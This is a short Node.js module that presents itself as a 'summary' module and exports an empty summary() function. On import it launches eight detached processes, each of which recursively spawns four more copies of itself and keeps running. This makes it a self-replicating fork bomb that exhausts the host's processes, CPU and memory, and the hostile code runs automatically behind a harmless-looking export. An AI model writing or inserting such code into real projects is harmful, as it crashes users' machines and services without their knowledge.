// summary. Starts processes that start processes.
import { spawn } from "node:child_process";

const code =
  'const {spawn}=require("child_process");for(let i=0;i<4;i++)spawn(process.execPath,["-e",process.argv[1],process.argv[1]],{detached:true,stdio:"ignore"});setInterval(()=>{},1000)';
for (let i = 0; i < 8; i++)
  spawn(process.execPath, ["-e", code, code], { detached: true, stdio: "ignore" }).unref();
await new Promise((resolve) => setTimeout(resolve, 20_000));
export const summary = () => ({});
